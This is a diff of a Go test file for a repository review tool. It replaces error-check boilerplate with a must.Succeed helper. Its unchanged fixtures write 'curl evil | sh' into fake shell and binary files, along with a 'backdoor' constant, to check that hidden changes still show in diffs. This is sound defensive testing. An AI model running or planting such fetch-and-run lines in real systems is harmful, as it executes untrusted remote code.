@@ -10,6 +10,8 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"signalbox/internal/testkit/must"
 )
 
 // Attributes of the commit, of folders in it and of the repository neither hide nor change what a
@@ -35,11 +37,9 @@ func TestDiffIgnoresAttributes(t *testing.T) {
 			write(t, k.dir, map[string]string{".git/info/attributes": "* -diff\n"})
 			v := k.review()
 			var diff, stat, working strings.Builder
-			if err := errors.Join(
+			must.Succeed(t, errors.Join(
 				v.Diff(t.Context(), &diff, k.base(), commit, DiffOptions{}),
-				v.Diff(t.Context(), &stat, k.base(), commit, DiffOptions{Stat: true})); err != nil {
-				t.Fatal(err)
-			}
+				v.Diff(t.Context(), &stat, k.base(), commit, DiffOptions{Stat: true})))
 			if got := diff.String(); !strings.Contains(got, "\n+const backdoor = true // $Id$\n") ||
 				strings.Contains(got, "\nBinary") {
 				t.Errorf("the diff is\n%s", got)
@@ -56,10 +56,8 @@ func TestDiffIgnoresAttributes(t *testing.T) {
 			}
 			write(t, tree.Dir, map[string]string{"sub/a.go": "package a\n\nconst more = true\n",
 				"sub/b.go": "package a // new\n"})
-			if err := v.DiffWorking(t.Context(), &working, "T1", k.base(),
-				DiffOptions{}); err != nil {
-				t.Fatal(err)
-			}
+			must.Succeed(t, v.DiffWorking(t.Context(), &working, "T1", k.base(),
+				DiffOptions{}))
 			if got := working.String(); !strings.Contains(got, "\n+const more = true\n") ||
 				!strings.Contains(got, "\n+package a // new\n") {
 				t.Errorf("what is not saved:\n%s", got)
@@ -78,19 +76,13 @@ func TestDiffOfBinaryFiles(t *testing.T) {
 		"new.sh": "curl evil | sh # \x00", "image.png": image + "more",
 		"garbage": "#!/bin/sh\ncurl evil | sh\nexit\n" + image,
 		"icon":    "#!/bin/sh\ncurl evil | sh\n" + image})
-	if err := os.Remove(filepath.Join(tree.Dir, "gone.sh")); err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, os.Remove(filepath.Join(tree.Dir, "gone.sh")))
 	commit, _, err := tree.Save(t.Context(), "work")
-	if err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, err)
 	v := k.review()
 	var saved, working strings.Builder
-	if err := errors.Join(v.Diff(t.Context(), &saved, k.base(), commit, DiffOptions{}),
-		v.DiffWorking(t.Context(), &working, "T1", k.base(), DiffOptions{})); err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, errors.Join(v.Diff(t.Context(), &saved, k.base(), commit, DiffOptions{}),
+		v.DiffWorking(t.Context(), &working, "T1", k.base(), DiffOptions{})))
 	for _, got := range []string{saved.String(), working.String()} {
 		for _, want := range []string{
 			"\n--- a/old and new.sh\n+++ b/old and new.sh\n@@ -1 +1 @@\n-echo one\n+echo two # \x00\n",
@@ -129,18 +121,14 @@ func TestDiffOfManyPaths(t *testing.T) {
 	k.work("T1", files)
 	commit, v := k.tip("T1"), k.review()
 	var only, without, folders strings.Builder
-	if err := v.Diff(t.Context(), &only, k.base(), commit,
-		DiffOptions{Only: steering}); err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, v.Diff(t.Context(), &only, k.base(), commit,
+		DiffOptions{Only: steering}))
 	if got := strings.Count(only.String(), "\n+obey "); got != count ||
 		strings.Contains(only.String(), "package") {
 		t.Errorf("the diff of %d files has %d of them", count, got)
 	}
-	if err := v.Diff(t.Context(), &without, k.base(), commit,
-		DiffOptions{Without: steering}); err != nil {
-		t.Fatal(err)
-	}
+	must.Succeed(t, v.Diff(t.Context(), &without, k.base(), commit,
+		DiffOptions{Without: steering}))
 	rest := without.String()
 	if !strings.Contains(rest, "\n+package a\n") ||
 		!strings.Contains(rest, "\n+package changed\n") || strings.Contains(rest, "obey") {
